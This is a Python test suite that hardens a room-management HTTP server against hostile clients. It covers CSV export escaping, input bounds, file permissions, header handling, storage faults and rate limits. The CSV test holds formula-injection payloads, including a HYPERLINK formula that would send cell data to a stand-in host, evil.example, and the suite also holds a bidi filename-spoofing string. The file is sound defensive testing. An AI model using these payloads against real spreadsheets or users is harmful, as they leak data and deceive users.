"""Issue #12's findings over HTTP against the real trm-server: what a hostile client sends must
not turn into a weapon against the customer (formula injection in exports, an audit log inflated by
refused writes), and bad input is refused with a clear answer before anything is stored."""
import csv
import io
import os
import shutil
import tempfile
import unittest

from trm import SMALL_WORLD, Server

API = "/api/v1"
CONTOSO = f"{API}/tenants/t-contoso"


class Scratch(unittest.TestCase):
    """A fresh server on the small world; Northwind invited to Oslo rooms, nia accepted."""

    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="trm-hardening-")
        self.s = Server("--db", f"{self.dir}/trm.sqlite", "--seed", SMALL_WORLD, "--dev-auth").__enter__()
        self.ann = self.s.login("ann@contoso.example")
        self.nia = self.s.login("nia@northwind.example")
        status, _, inv = self.s.as_user(self.ann, "POST", f"{API}/partners/invitations", {
            "partnerDomain": "northwind.example", "contacts": [{"name": "Nia", "upn": "nia@northwind.example"}],
            "scope": {"roomGroupIds": ["rg-oslo"]}, "expiresInDays": 7, "approval": "auto", "termsAccepted": True})
        self.assertEqual(status, 201, inv)
        self.assertEqual(self.s.as_user(self.nia, "POST", f"{API}/invitations/{inv['id']}/accept")[0], 200)

    def tearDown(self):
        self.s.__exit__(None, None, None)
        shutil.rmtree(self.dir, ignore_errors=True)

    def audit_rows(self):
        status, _, text = self.s.as_user(self.ann, "GET", f"{CONTOSO}/audit?format=csv")
        self.assertEqual(status, 200, text)
        return list(csv.reader(io.StringIO(text)))[1:]


class CsvInjectionTest(Scratch):
    def test_cells_a_spreadsheet_would_run_are_text_in_the_audit_export(self):
        formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
        for title in formulas:
            # Allowed or refused, the write is audited under the title it names.
            status, _, body = self.s.as_user(self.nia, "POST", f"{CONTOSO}/incidents", {
                "roomIds": ["r-oslo-1"], "title": title, "description": "x", "highImpact": False,
                "justification": "", "type": "display"})
            self.assertIn(status, (201, 403), body)
        names = [r[1] for r in self.audit_rows()]
        for title in formulas:
            self.assertIn("'" + title, names)
            self.assertNotIn(title, names)  # no cell starts with the formula itself


class BoundedInputTest(Scratch):
    def db_bytes(self):
        import os
        return sum(os.path.getsize(os.path.join(self.dir, f)) for f in os.listdir(self.dir))

    def test_refused_huge_titles_leave_a_bounded_audit_line(self):
        huge = "A" * 500_000
        before = self.db_bytes()
        for _ in range(5):
            status, _, body = self.s.as_user(self.ann, "POST", f"{CONTOSO}/incidents", {
                "roomIds": ["r-oslo-1"], "title": huge, "description": "x", "highImpact": False,
                "justification": "", "type": "display"})
            self.assertEqual(status, 422, body)
            self.assertEqual(body["errors"][0]["field"], "title")
            self.assertLess(len(str(body)), 2000)  # the answer does not echo it either
        grown = self.db_bytes() - before
        self.assertLess(grown, 200_000, f"five refused 500 kB titles grew the database by {grown} bytes")
        names = [r[1] for r in self.audit_rows() if r[1].startswith("AAAA")]
        self.assertEqual(len(names), 5)
        self.assertTrue(all(n == "A" * 256 + "\u2026" for n in names), names[0][-10:])

    def test_bidirectional_and_control_characters_in_names_are_refused(self):
        _, _, room = self.s.as_user(self.ann, "GET", f"{CONTOSO}/rooms/r-oslo-1")
        for name, code in (("Oslo \u202egnp.exe", "U+202E"), ("Oslo \u2066x", "U+2066"), ("Oslo\tA", "U+0009"),
                           ("Oslo\x00", "U+0000"), ("Oslo \x9b", "U+009B")):
            status, _, body = self.s.as_user(self.ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": name})
            self.assertEqual(status, 422, (name, body))
            self.assertEqual(body["errors"][0]["field"], "displayName")
            self.assertIn(code, body["errors"][0]["message"])
        status, _, body = self.s.as_user(self.ann, "POST", f"{CONTOSO}/room-groups", {"name": "Lobby\u202d", "roomIds": []})
        self.assertEqual(status, 422, body)
        self.assertEqual(self.s.as_user(self.ann, "GET", f"{CONTOSO}/rooms/r-oslo-1")[2], room)  # nothing changed
        # Multi-line texts keep their line breaks; names count characters, not bytes.
        status, _, ok = self.s.as_user(self.ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": "è" * 128})
        self.assertEqual(status, 200, ok)


class DatabaseFilesTest(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="trm-files-")

    def tearDown(self):
        shutil.rmtree(self.dir, ignore_errors=True)

    def test_a_new_database_and_its_wal_and_shm_are_private_to_the_service(self):
        import os
        import stat
        old = os.umask(0o022)  # the usual umask, under which files are made world-readable
        try:
            with Server("--db", f"{self.dir}/trm.sqlite", "--seed", SMALL_WORLD, "--dev-auth") as s:
                ann = s.login("ann@contoso.example")
                s.as_user(ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": "Oslo A"})
                files = sorted(f for f in os.listdir(self.dir) if f.startswith("trm.sqlite"))
                self.assertIn("trm.sqlite-wal", files)
                self.assertIn("trm.sqlite-shm", files)
                for f in files:
                    mode = stat.S_IMODE(os.stat(os.path.join(self.dir, f)).st_mode)
                    self.assertEqual(mode, 0o600, f"{f} is {oct(mode)}")
        finally:
            os.umask(old)

    def start_with_secret(self, text, mode):
        import os
        import subprocess
        secret = f"{self.dir}/secret"
        with open(secret, "w") as f:
            f.write(text)
        os.chmod(secret, mode)
        return subprocess.run([os.environ["TRM_SERVER"], "--listen", "127.0.0.1:0", "--db", f"{self.dir}/trm.sqlite",
                               "--seed", SMALL_WORLD, "--token-secret", secret],
                              capture_output=True, text=True, timeout=30)

    def test_a_token_secret_others_may_read_or_that_is_malformed_is_refused_with_the_reason(self):
        good = "ab" * 32
        proc = self.start_with_secret(good, 0o644)
        self.assertEqual(proc.returncode, 1, proc.stderr)
        self.assertIn("is readable by group or others (mode 0644)", proc.stderr)
        for text, why in (("zz" + good, "character 1 is not one"), (good + "a", "odd number of hex digits"),
                          ("ab" * 8, "8-byte secret")):
            proc = self.start_with_secret(text, 0o600)
            self.assertEqual(proc.returncode, 1, proc.stderr)
            self.assertIn(why, proc.stderr)
            self.assertNotIn("stoul", proc.stderr)

    def test_a_zero_length_database_is_refused_not_reseeded(self):
        import os
        import subprocess
        db = f"{self.dir}/trm.sqlite"
        open(db, "w").close()
        proc = subprocess.run([os.environ["TRM_SERVER"], "--listen", "127.0.0.1:0", "--db", db, "--seed", SMALL_WORLD],
                              capture_output=True, text=True, timeout=30)
        self.assertEqual(proc.returncode, 2, proc.stderr)
        self.assertIn("is empty (0 bytes)", proc.stderr)
        self.assertEqual(os.path.getsize(db), 0)  # left as found, for whoever restores it


class HttpDetailsTest(Scratch):
    def raw(self, data):
        import socket
        with socket.create_connection(("127.0.0.1", self.s.port), timeout=10) as sock:
            sock.sendall(data)
            out = b""
            while chunk := sock.recv(65536):
                out += chunk
        return out.decode("utf-8", "replace")

    def test_api_answers_forbid_loading_framing_and_referrers(self):
        status, headers, _ = self.s.as_user(self.ann, "GET", f"{CONTOSO}/rooms")
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-security-policy"], "default-src 'none'; frame-ancestors 'none'")
        self.assertEqual(headers["referrer-policy"], "no-referrer")
        self.assertEqual(headers["x-frame-options"], "DENY")
        self.assertEqual(self.s.request("GET", "/api/v1/nowhere")[1]["x-frame-options"], "DENY")  # errors too

    def test_head_answers_like_get_without_a_body(self):
        import http.client
        get = self.s.as_user(self.ann, "GET", f"{CONTOSO}/rooms/r-oslo-1")
        conn = http.client.HTTPConnection("127.0.0.1", self.s.port, timeout=10)
        conn.request("HEAD", f"{CONTOSO}/rooms/r-oslo-1", headers={"Authorization": f"Bearer {self.ann}"})
        resp = conn.getresponse()
        self.assertEqual(resp.status, 200)
        self.assertEqual(resp.read(), b"")
        self.assertEqual(resp.getheader("Content-Length"), get[1]["content-length"])  # what GET sends
        # The connection is still good for the next request.
        conn.request("GET", "/api/v1/health")
        self.assertEqual(conn.getresponse().status, 200)
        conn.close()
        self.assertEqual(self.s.as_user(self.nia, "HEAD", f"{CONTOSO}/rooms/r-ny-1")[0], 404)

    def test_two_authorization_headers_are_refused(self):
        reply = self.raw(f"GET {CONTOSO}/rooms HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.ann}\r\n"
                         f"Authorization: Bearer {self.nia}\r\nConnection: close\r\n\r\n".encode())
        self.assertTrue(reply.startswith("HTTP/1.1 400"), reply[:200])
        self.assertIn("duplicate_authorization", reply)
        self.assertNotIn("r-oslo-1", reply)

    def test_a_request_without_host_is_refused(self):
        reply = self.raw(b"GET /api/v1/health HTTP/1.1\r\nConnection: close\r\n\r\n")
        self.assertTrue(reply.startswith("HTTP/1.1 400"), reply[:200])
        self.assertIn("bad_host", reply)
        reply = self.raw(b"GET /api/v1/health HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n")
        self.assertTrue(reply.startswith("HTTP/1.1 400"), reply[:200])
        reply = self.raw(b"GET /api/v1/health HTTP/1.0\r\n\r\n")  # HTTP/1.0 has no Host rule
        self.assertTrue(reply.startswith("HTTP/1.0 200"), reply[:200])


class StorageFaultTest(Scratch):
    def test_a_write_waiting_on_a_locked_database_answers_503_and_reads_go_on(self):
        import sqlite3
        import threading
        room = f"{CONTOSO}/rooms/r-oslo-1"
        other = sqlite3.connect(f"{self.dir}/trm.sqlite", isolation_level=None, timeout=1)
        other.execute("BEGIN IMMEDIATE")  # another process holds the write lock
        answer = {}
        writer = threading.Thread(target=lambda: answer.update(
            reply=self.s.as_user(self.ann, "PATCH", room, {"displayName": "Oslo B"})))
        writer.start()
        writer.join(0.5)
        self.assertTrue(writer.is_alive(), "the write should be waiting for the database")
        # Reads are served while the write waits (the audit log too: another connection).
        status, _, body = self.s.as_user(self.ann, "GET", room)
        self.assertEqual((status, body["displayName"]), (200, "Oslo 4.12"))
        self.assertEqual(self.s.as_user(self.ann, "GET", f"{CONTOSO}/audit")[0], 200)
        self.assertTrue(writer.is_alive(), "a read waited for the write")
        writer.join(30)
        status, headers, problem = answer["reply"]
        self.assertEqual(status, 503, problem)
        self.assertEqual(problem["code"], "store_unavailable")
        self.assertGreaterEqual(int(headers["retry-after"]), 1)
        self.assertEqual(self.s.as_user(self.ann, "GET", room)[2]["displayName"], "Oslo 4.12")
        other.execute("ROLLBACK")  # the fault ends: the service recovers by itself
        other.close()
        status, _, body = self.s.as_user(self.ann, "PATCH", room, {"displayName": "Oslo C"})
        self.assertEqual(status, 200, body)
        # The log says the real cause.
        import signal
        self.s.proc.send_signal(signal.SIGTERM)
        self.s.proc.wait(10)
        self.assertIn("database is locked", self.s.proc.stderr.read())

    def test_a_full_disk_answers_503_keeps_nothing_and_logs_the_real_cause(self):
        import resource
        import signal
        self.s.__exit__(None, None, None)  # a server of our own, with a file size limit
        db = f"{self.dir}/trm.sqlite"
        limit = max(os.path.getsize(db), os.path.getsize(db + "-wal") if os.path.exists(db + "-wal") else 0) + 256 * 1024

        def small_disk():
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG)
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

        server = Server("--db", db, "--dev-auth")
        server.preexec = small_disk
        with server as s:
            ann = s.login("ann@contoso.example")
            room = f"{CONTOSO}/rooms/r-oslo-1"
            statuses = []
            for i in range(400):  # ~2 kB journal entries until the file limit is reached
                status, headers, body = s.as_user(ann, "PATCH", room, {"displayName": f"Oslo {i} " + "x" * 100,
                                                                        "site": "y" * 120})
                statuses.append(status)
                if status == 503:
                    break
            self.assertEqual(statuses[-1], 503, statuses[-5:])
            self.assertEqual(body["code"], "store_unavailable")
            self.assertIn("retry-after", headers)
            accepted = statuses.count(200)
            # Nothing of the refused change is kept, and reads go on.
            status, _, now = s.as_user(ann, "GET", room)
            self.assertEqual(status, 200)
            self.assertEqual(now["displayName"], f"Oslo {accepted - 1} " + "x" * 100)
            s.proc.send_signal(signal.SIGTERM)
            s.proc.wait(10)
            log = s.proc.stderr.read()
        self.assertIn("cannot persist a change", log)
        self.assertIn("disk I/O error (SQLite code 778", log)  # SQLITE_IOERR_WRITE: the real cause
        self.assertNotIn("cannot rollback", log)
        self.assertNotIn("no transaction is active", log)
        # A restart (no limit) replays exactly what was acknowledged.
        with Server("--db", db, "--dev-auth") as s:
            ann = s.login("ann@contoso.example")
            self.assertEqual(s.as_user(ann, "GET", room)[2]["displayName"], f"Oslo {accepted - 1} " + "x" * 100)


class ConnectionsTest(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="trm-connections-")

    def tearDown(self):
        shutil.rmtree(self.dir, ignore_errors=True)

    @staticmethod
    def health(port):
        import http.client
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            conn.request("GET", "/api/v1/health")
            resp = conn.getresponse()
            return resp.status, resp.getheader("Retry-After"), resp.read().decode()
        finally:
            conn.close()

    def wait_healthy(self, port):
        import time
        for _ in range(100):
            if self.health(port)[0] == 200:
                return True
            time.sleep(0.05)
        return False

    def test_beyond_the_connection_cap_a_client_gets_503_then_service_again(self):
        import socket
        with Server("--max-connections", "3") as s:
            idle = [socket.create_connection(("127.0.0.1", s.port)) for _ in range(3)]
            import time
            time.sleep(0.3)  # the server accepts (and counts) them
            status, retry, body = self.health(s.port)
            self.assertEqual(status, 503, body)
            self.assertEqual(retry, "1")
            self.assertIn("too_many_connections", body)
            idle.pop().close()
            self.assertTrue(self.wait_healthy(s.port), "a freed connection was not given back")
            for sock in idle:
                sock.close()

    def test_out_of_descriptors_the_accept_loop_waits_instead_of_spinning(self):
        import resource
        import socket
        import time

        def few_descriptors():
            resource.setrlimit(resource.RLIMIT_NOFILE, (48, 48))

        server = Server("--db", f"{self.dir}/trm.sqlite", "--seed", SMALL_WORLD)
        server.preexec = few_descriptors
        with server as s:
            flood = []
            for _ in range(80):  # more than the server can hold: the kernel queues the rest
                flood.append(socket.create_connection(("127.0.0.1", s.port)))
            time.sleep(0.5)
            ticks = os.sysconf("SC_CLK_TCK")

            def cpu():
                with open(f"/proc/{s.proc.pid}/stat") as f:
                    fields = f.read().rsplit(")", 1)[1].split()
                return (int(fields[11]) + int(fields[12])) / ticks

            before = cpu()
            time.sleep(1.5)
            used = cpu() - before
            self.assertLess(used, 0.5, f"the server used {used:.2f} s of CPU in 1.5 s while out of descriptors")
            for sock in flood:
                sock.close()
            self.assertTrue(self.wait_healthy(s.port), "the server did not accept again")
            s.proc.terminate()
            s.proc.wait(10)
            self.assertIn("backing off", s.proc.stderr.read())


class RecoveryTest(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="trm-recovery-")
        self.db = f"{self.dir}/trm.sqlite"

    def tearDown(self):
        shutil.rmtree(self.dir, ignore_errors=True)

    def test_a_journal_entry_that_no_longer_replays_is_named_with_a_way_out(self):
        import sqlite3
        import subprocess
        with Server("--db", self.db, "--seed", SMALL_WORLD, "--dev-auth") as s:
            ann = s.login("ann@contoso.example")
            self.assertEqual(s.as_user(ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": "Oslo A"})[0], 200)
        # A later version refuses what an old one accepted: simulate with an entry that fails.
        db = sqlite3.connect(self.db)
        seq = db.execute("SELECT MAX(seq) FROM journal").fetchone()[0] + 1
        db.execute("INSERT INTO journal (tenant_id, seq, time, user_id, method, target, body, generated) "
                   "VALUES ('t-contoso', ?, 1795795200, 'u-ann', 'PATCH', '/api/v1/tenants/t-contoso/rooms/r-gone', "
                   "'{\"displayName\":\"x\"}', '')", (seq,))
        db.commit()
        db.close()
        proc = subprocess.run([os.environ["TRM_SERVER"], "--listen", "127.0.0.1:0", "--db", self.db],
                              capture_output=True, text=True, timeout=30)
        self.assertEqual(proc.returncode, 2, proc.stderr)
        self.assertIn(f"journal entry {seq}", proc.stderr)
        self.assertIn("/rooms/r-gone", proc.stderr)
        self.assertIn("answered 404", proc.stderr)
        self.assertIn(f"--replay-before {seq}", proc.stderr)
        # The way out: everything before it, served read-only.
        with Server("--db", self.db, "--replay-before", str(seq), "--dev-auth") as s:
            ann = s.login("ann@contoso.example")
            self.assertEqual(s.as_user(ann, "GET", f"{CONTOSO}/rooms/r-oslo-1")[2]["displayName"], "Oslo A")
            status, _, body = s.as_user(ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": "Oslo B"})
            self.assertEqual((status, body["code"]), (503, "read_only"))


class RateLimitTest(unittest.TestCase):
    def test_sign_in_attempts_are_limited_per_address(self):
        with Server("--seed", SMALL_WORLD, "--dev-auth", "--sign-in-rate", "6") as s:  # 2 at once
            ann = s.login("ann@contoso.example")
            self.assertEqual(s.request("POST", "/api/v1/auth/dev-login", {"upn": "nobody@contoso.example"})[0], 401)
            status, headers, body = s.request("POST", "/api/v1/auth/dev-login", {"upn": "ann@contoso.example"})
            self.assertEqual(status, 429, body)
            self.assertEqual(body["code"], "too_many_attempts")
            self.assertGreaterEqual(int(headers["retry-after"]), 1)
            self.assertEqual(headers["content-type"], "application/problem+json")
            # Honest traffic with a valid token goes on.
            self.assertEqual(s.as_user(ann, "GET", f"{CONTOSO}/rooms")[0], 200)

    def test_bad_tokens_are_limited_and_then_the_address_waits(self):
        import time
        with Server("--seed", SMALL_WORLD, "--dev-auth") as s:  # 60 a minute, 20 at once
            ann = s.login("ann@contoso.example")
            statuses = [s.as_user("forged." + str(i) + ".x", "GET", "/api/v1/me")[0] for i in range(25)]
            self.assertEqual(statuses[:20], [401] * 20)
            self.assertEqual(set(statuses[20:]), {429})
            # Out of attempts, the address waits even with a good token (nothing is verified
            # for it meanwhile) — then, refilled, it is served again.
            status, headers, _ = s.as_user(ann, "GET", "/api/v1/me")
            self.assertEqual(status, 429)
            time.sleep(int(headers["retry-after"]) + 0.2)
            self.assertEqual(s.as_user(ann, "GET", "/api/v1/me")[0], 200)

    def test_no_limit_when_switched_off(self):
        with Server("--seed", SMALL_WORLD, "--dev-auth", "--sign-in-rate", "0") as s:
            self.assertEqual({s.as_user("bad", "GET", "/api/v1/me")[0] for _ in range(40)}, {401})


if __name__ == "__main__":
    unittest.main()
